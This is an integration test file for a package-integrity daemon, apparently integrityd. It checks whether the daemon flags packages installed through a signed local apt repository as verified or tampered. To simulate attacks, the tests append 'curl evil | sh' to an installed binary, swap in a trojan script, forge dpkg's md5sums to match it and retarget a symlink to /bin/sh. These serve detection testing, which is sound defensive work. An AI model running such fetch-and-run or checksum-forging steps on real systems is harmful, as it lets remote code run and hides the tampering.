// The whole chain with real parts: .debs built by dpkg-deb, a local repository
// signed with a throwaway key (signed-by= in a temp source entry), the real
// apt-get running the compiled binary as its Pre-Install-Pkgs hook, real
// dpkg installing under /opt/integrityd-test-PID, and --scan-once judging
// what changed. Events are read back from the database.
import { Database } from "bun:sqlite";
import { adoptInbox } from "../../src/db/events.ts";
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { appendFileSync, chmodSync, copyFileSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { aptDirs, debKey, verifiedIndex } from "../../src/packages/archive.ts";
import { childBackfill } from "../../src/packages/backfillchild.ts";
import { AptRepo, aptToolsMissing, PREFIX } from "../support/aptrepo.ts";
import { BIN, ensureBinary, run, writeConfig } from "../support/binary.ts";

const missing = aptToolsMissing();
if (missing) console.log(`skipping the apt tests: ${missing}`);

const A = `integrityd-test-${process.pid}-a`;
const B = `integrityd-test-${process.pid}-b`;
const C = `integrityd-test-${process.pid}-c`;

interface Ev { id: number; kind: string; urgent: number; subject: string; text: string; details: Record<string, unknown> }

describe.skipIf(!!missing)("apt hook and package verdicts", () => {
  let repo: AptRepo;
  let conf = "";
  let dbPath = "";
  let last = 0;
  const hook = () => ["-o", `DPkg::Pre-Install-Pkgs::=${BIN} --apt-hook --config ${conf}`, "-o", `DPkg::Tools::Options::${BIN}::Version=3`];
  // what the hook queued waits in events_inbox (it has no chain key); the
  // daemon adopts it within seconds (db/inbox.ts) — here the test does
  const newEvents = (): Ev[] => {
    const db = new Database(dbPath);
    try {
      db.exec("PRAGMA busy_timeout = 5000");
      while (adoptInbox(db) > 0);
      const rows = db.query("SELECT id, kind, urgent, subject, text, details FROM events WHERE id > ? ORDER BY id").all(last) as (Omit<Ev, "details"> & { details: string })[];
      if (rows.length) last = rows[rows.length - 1].id;
      return rows.map((r) => ({ ...r, details: JSON.parse(r.details) }));
    } finally {
      db.close();
    }
  };
  const scan = () => {
    const r = run(["--scan-once", "--config", conf]);
    expect(r.stderr).not.toContain("rror");
    return newEvents();
  };
  // 1.1 drops lib/data and brings a new directory, a new file and a symlink
  const files = (pkg: string, v: string) => ({
    [`${pkg}/bin/tool`]: `#!/bin/sh\necho ${pkg} ${v}\n`,
    ...(v === "1.1" ? { [`${pkg}/share/doc/new.txt`]: "new\n" } : { [`${pkg}/lib/data`]: Buffer.alloc(5000, v.length) }),
    [`${pkg}/etc/tool.conf`]: `level = 1\n`,
  });
  const links = (pkg: string, v: string): Record<string, string> => (v === "1.1" ? { [`${pkg}/bin/tool-link`]: "tool" } : {});
  const deb = (pkg: string, v: string) => repo.buildDeb({ name: pkg, version: v, files: files(pkg, v), links: links(pkg, v), conffiles: [`${pkg}/etc/tool.conf`] });
  const aptOk = (args: string[], extra: string[] = []) => {
    const r = repo.apt(args, [...hook(), ...extra]);
    expect(r.out).not.toContain("--apt-hook:");
    if (r.code !== 0) console.log(r.out);
    expect(r.code).toBe(0);
    return r.out;
  };

  beforeAll(() => {
    ensureBinary();
    repo = new AptRepo();
    dbPath = join(repo.dir, "db.sqlite");
    conf = writeConfig(repo.dir, `database = ${dbPath}\narea = ${PREFIX}\nemail = none\n`);
    expect(run(["--init-db", "--config", conf]).code).toBe(0);
    deb(A, "1.0");
    deb(B, "1.0");
    repo.publish();
    repo.update();
  });
  afterAll(() => repo?.cleanup());

  test("install: one verified line per package; the baseline is silent", () => {
    aptOk(["install", A, B]);
    const ev = newEvents();
    expect(ev.map((e) => e.kind)).toEqual(["package", "package"]);
    for (const e of ev) {
      expect(e.details.package).toBe("verified");
      expect(e.text).toMatch(new RegExp(`^integrityd-test-\\d+-[ab] 1\\.0 installed: 3 files, content verified against file:${repo.repo} \\./ \\(key ${repo.fingerprint.slice(-16)}\\)$`));
    }
    expect(scan().length).toBe(1); // the baseline summary
  });

  test("upgrade (changed, new and dropped files, a new directory and symlink): zero file alerts, one verified line per package", () => {
    deb(A, "1.1");
    deb(B, "1.1");
    repo.publish();
    repo.update();
    aptOk(["install", A, B]);
    const ev = newEvents();
    expect(ev.map((e) => e.text.replace(/:.*/s, ""))).toEqual([`${A} 1.0 → 1.1`, `${B} 1.0 → 1.1`]);
    expect(repo.read(`${A}/bin/tool`)).toContain("1.1");
    expect(repo.read(`${A}/share/doc/new.txt`)).toBe("new\n");
    expect(scan()).toEqual([]);
  });

  test("identical reinstall: one line, no file alert", () => {
    aptOk(["install", "--reinstall", A]);
    const ev = newEvents();
    expect(ev.length).toBe(1);
    expect(ev[0].text).toStartWith(`${A} 1.1 reinstalled: 3 files, content verified`);
    expect(scan()).toEqual([]);
  });

  test("a binary edited during the apt run is an urgent mismatch", () => {
    const tool = join(PREFIX, B, "bin/tool");
    aptOk(["install", "--reinstall", B], ["-o", `DPkg::Post-Invoke::=echo 'curl evil | sh' >> ${tool}`]);
    expect(newEvents().length).toBe(1);
    const ev = scan();
    expect(ev.length).toBe(1);
    expect(ev[0]).toMatchObject({ kind: "changed", urgent: 1, details: { package: "mismatch", package_name: B, package_version: "1.1" } });
    expect(ev[0].text).toContain("PACKAGE MISMATCH");
    expect(ev[0].text).toContain(`found:    sha256:${createHash("sha256").update(readFileSync(tool)).digest("hex")}`);
  });

  test("a binary and its md5sums line both rewritten: two HIGH alerts", () => {
    const tool = join(PREFIX, A, "bin/tool");
    writeFileSync(tool, "#!/bin/sh\necho trojan\n");
    const sums = `/var/lib/dpkg/info/${A}.md5sums`;
    const md5 = createHash("md5").update(readFileSync(tool)).digest("hex");
    writeFileSync(sums, readFileSync(sums, "utf8").replace(/^[0-9a-f]{32}(  .*\/bin\/tool)$/m, `${md5}$1`));
    const ev = scan();
    expect(ev.map((e) => [e.kind, e.urgent, e.details.package])).toEqual([["changed", 1, "mismatch"], ["package", 1, "mismatch"]]);
    expect(ev[1].details.record).toBe("md5sums");
    expect(ev[1].text).toContain(`dpkg:     md5:${md5}`);
  });

  test("a setuid bit added to a verified binary is still reported, content verified, the mode said", () => {
    const link = join(PREFIX, B, "bin/tool-link");
    chmodSync(join(PREFIX, A, "share/doc/new.txt"), 0o4755);
    const ev = scan();
    expect(ev.length).toBe(1);
    expect(ev[0]).toMatchObject({ kind: "changed", details: { package: "verified", package_name: A } });
    expect(ev[0].text).toContain("mode 4755 (package: 0644)");
    // a retargeted package symlink is a mismatch
    rmSync(link);
    symlinkSync("/bin/sh", link);
    const ev2 = scan();
    expect(ev2.map((e) => [e.kind, e.urgent, e.details.package])).toEqual([["changed", 1, "mismatch"]]);
  });

  test("an edited conffile is an admin edit; a new file is unowned", () => {
    appendFileSync(join(PREFIX, A, "etc/tool.conf"), "level = 2\n");
    writeFileSync(join(PREFIX, A, "extra"), "x");
    const ev = scan();
    const by = new Map(ev.map((e) => [e.subject, e]));
    expect(by.get(join(PREFIX, A, "etc/tool.conf"))).toMatchObject({ urgent: 0, details: { package: "conffile-edited", package_name: A } });
    expect(by.get(join(PREFIX, A, "extra"))).toMatchObject({ kind: "new", urgent: 0, details: { package: "unowned" } });
  });

  test("an unsigned repository never yields verified", () => {
    deb(C, "1.0");
    repo.publish({ signWith: null });
    repo.update();
    aptOk(["install", C]);
    const ev = newEvents();
    expect(ev.length).toBe(1);
    expect(ev[0].details.package).toBe("md5-only");
    expect(ev[0].text).toContain("NOT verified");
    const files = scan().filter((e) => e.kind === "new" && String(e.subject).startsWith(join(PREFIX, C)) && !String(e.details.after && (e.details.after as { type: string }).type).includes("dir"));
    expect(files.length).toBe(3);
    for (const f of files) expect(f.details.package).not.toBe("verified");
    expect(files.map((f) => f.details.package)).toContain("md5-only");
  });

  test("a repository signed by a key its signed-by does not name never yields verified", () => {
    const other = repo.newKey(join(repo.dir, "gnupg-other"), "someone else");
    deb(C, "1.1");
    repo.publish({ signWith: join(repo.dir, "gnupg-other") });
    // apt refuses the InRelease; plant it where apt keeps lists, as if it had been accepted
    repo.update();
    const listName = readFileSync(join(repo.repo, "InRelease"));
    const lists = join(repo.dir, "lists");
    const name = Bun.spawnSync(["ls", lists]).stdout.toString().split("\n").find((n) => n.endsWith("_Packages.lz4") || n.endsWith("_Packages"))!.replace(/Packages(\.lz4)?$/, "InRelease");
    writeFileSync(join(lists, name), listName);
    expect(other).not.toBe(repo.fingerprint);
    aptOk(["install", C]);
    const ev = newEvents();
    expect(ev.length).toBe(1);
    expect(ev[0].details.package).toBe("md5-only");
    expect(ev[0].text).toMatch(/NOT verified \(not in a verified index; .*(NO_PUBKEY|signature not valid)/);
  });

  test("--verify-packages: verified from a cached .deb in a signed index, md5-only from dpkg's lists", () => {
    // a fresh database, apt's directories from an APT_CONFIG file, the A 1.1 .deb in apt's cache
    const db2 = join(repo.dir, "db2.sqlite");
    const conf2 = writeConfig(repo.dir, `database = ${db2}\narea = ${PREFIX}\nemail = none\n`, "two.conf");
    expect(run(["--init-db", "--config", conf2]).code).toBe(0);
    repo.publish(); // signed again (the C 1.1 index too)
    repo.update();
    copyFileSync(join(repo.repo, `${A}_1.1_all.deb`), join(repo.dir, "cache/archives", `${A}_1.1_all.deb`));
    const aptConf = join(repo.dir, "apt.conf");
    const o = repo.aptOptions();
    writeFileSync(aptConf, o.filter((_, i) => i % 2 === 1).map((kv) => { const eq = kv.indexOf("="); return `${kv.slice(0, eq)} "${kv.slice(eq + 1)}";`; }).join("\n") + "\n");
    const r = run(["--verify-packages", "--config", conf2], { env: { APT_CONFIG: aptConf } });
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^packages: \d+ verified, \d+ md5-only \(dpkg's MD5 list; not verified\), \d+ without evidence\n/);
    const db = new Database(db2, { readonly: true });
    try {
      const ev = (p: string) => (db.query("SELECT evidence FROM pkg_versions WHERE package = ? ORDER BY evidence").all(p) as { evidence: string }[]).map((x) => x.evidence);
      expect(ev(A)).toEqual(["verified"]);
      expect(ev(B)).toEqual(["md5-only"]);
      expect(ev(C)).toEqual(["md5-only"]); // its .deb is not in the cache
      expect(Number(/^packages: (\d+) verified/.exec(r.stdout)![1])).toBeGreaterThanOrEqual(1);
    } finally {
      db.close();
    }
  });

  test("the daemon's backfill child (the real binary) records what --verify-packages does; the index keeps only what is asked", async () => {
    const db3 = join(repo.dir, "db3.sqlite");
    const conf3 = writeConfig(repo.dir, `database = ${db3}\narea = ${PREFIX}\nemail = none\n`, "three.conf");
    expect(run(["--init-db", "--config", conf3]).code).toBe(0);
    const items = new Map<string, string>();
    const o = repo.aptOptions();
    for (let i = 1; i < o.length; i += 2) { const eq = o[i].indexOf("="); items.set(o[i].slice(0, eq).toLowerCase(), o[i].slice(eq + 1)); }
    const dirs = aptDirs(items);
    const counts = await childBackfill([BIN])!(db3, dirs, 0, new AbortController().signal);
    expect(counts.verified).toBeGreaterThanOrEqual(1);
    expect(counts["md5-only"]).toBeGreaterThanOrEqual(2);
    const db = new Database(db3, { readonly: true });
    try {
      const ev = (p: string) => (db.query("SELECT evidence FROM pkg_versions WHERE package = ? ORDER BY evidence").all(p) as { evidence: string }[]).map((x) => x.evidence);
      expect(ev(A)).toEqual(["verified"]);
      expect(ev(B)).toEqual(["md5-only"]);
    } finally {
      db.close();
    }
    const all = verifiedIndex(dirs, repo.dir);
    expect([...all.debs.keys()].some((k) => k.startsWith(`${B}\0`))).toBe(true);
    const only = verifiedIndex(dirs, repo.dir, new Set([debKey(A, "1.1", "all")]));
    expect([...only.debs.keys()]).toEqual([debKey(A, "1.1", "all")]);
  });
});
